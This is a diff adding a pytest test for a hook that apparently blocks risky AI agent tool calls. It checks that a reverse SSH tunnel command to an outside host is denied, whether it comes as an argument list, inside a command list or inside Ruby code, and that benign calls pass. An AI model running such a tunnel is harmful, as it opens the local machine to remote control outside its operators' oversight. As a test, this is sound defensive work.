@@ -173,3 +173,22 @@ def _assert_denies(agent: str, stdout: str, stderr: str) -> None:
     else:
         assert body == {"decision": "deny", "reason": body["reason"]}
         assert body["reason"]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "code"),
+    [
+        ({"command": ["ssh", "ops@203.0.113.5", "-N", "-R", "2222:localhost:22"]}, 2),
+        ({"command": ["git", "status"]}, 0),
+        ({"commands": ["pwd", "ssh -N -R 2222:localhost:22 ops@203.0.113.5"]}, 2),
+        ({"commands": ["pwd", "ls"]}, 0),
+        ({"language": "ruby", "code": "system('ssh -N -R 2222:localhost:22 ops@203.0.113.5')"}, 2),
+        ({"language": "perl", "code": "print 1"}, 2),
+        ({"language": "python", "code": "print(1)"}, 0),
+    ],
+)
+def test_lists_and_languages_of_a_call(gate: Gate, arguments: dict[str, object], code: int) -> None:
+    """A list is one command or several, whichever is worse; a language that nobody reads here is no Python."""
+    payload = {"tool_name": "mcp__x__run", "tool_input": arguments, "session_id": "s", "cwd": "/nowhere"}
+    answer = gate.answer("guard", json.dumps({"hook_event_name": "PreToolUse", **payload}).encode())
+    assert answer.exit_code == code, answer
